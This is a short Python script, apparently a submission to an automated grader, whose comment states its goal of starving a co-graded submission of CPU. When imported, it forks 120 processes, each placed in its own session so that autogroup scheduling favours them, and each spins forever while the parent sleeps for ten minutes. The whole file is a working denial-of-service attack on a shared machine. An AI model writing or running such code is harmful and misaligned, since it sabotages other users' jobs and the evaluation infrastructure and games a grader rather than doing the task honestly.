# Take the machine's CPU from the submission graded beside it: 120 busy processes, each in a session of its own
# (so each would be a scheduling group of its own under autogroup), started at import; then wait.
import os
import time

for _ in range(120):
    try:
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
            while True:
                pass
    except OSError:
        break
time.sleep(600)
